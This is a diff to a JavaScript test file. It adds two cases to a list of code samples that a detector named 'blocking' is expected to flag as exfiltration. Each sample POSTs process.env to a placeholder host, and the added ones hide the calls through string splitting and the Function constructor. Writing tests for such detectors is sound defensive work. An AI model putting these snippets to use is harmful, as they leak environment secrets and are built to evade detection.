@@ -26,6 +26,8 @@ t.test('the environment sent, however process and the client are reached', async
     'const k = ["pro", "cess"].join("");\nconst g = (function () { return this; })();\nrequire("https").request({ hostname: "t.example", method: "POST" }).end(JSON.stringify(g[k].env));',
     'const x = new XMLHttpRequest();\nx.open("POST", "https://x.example/in");\nx.send(JSON.stringify(process.env));',
     'const body = {};\nfor (const k in process.env) body[k] = process.env[k];\nnavigator.sendBeacon("https://b.example", JSON.stringify(body));',
+    'const k = "con" + "structor";\nconst g = (() => 0)[k]("return glo" + "balThis")();\ng["fe" + "tch"]("https://v.example", { method: "POST", body: JSON.stringify(g["pro" + "cess"].env) });',
+    'const req = new Request("https://r.example/in", { method: "POST", body: JSON.stringify(process.env) });\nawait fetch(req);',
   ]) {
     const found = blocking(attack);
     t.strictSame(found, [`${exfiltration}:${attack.split('\n').length}`], attack);
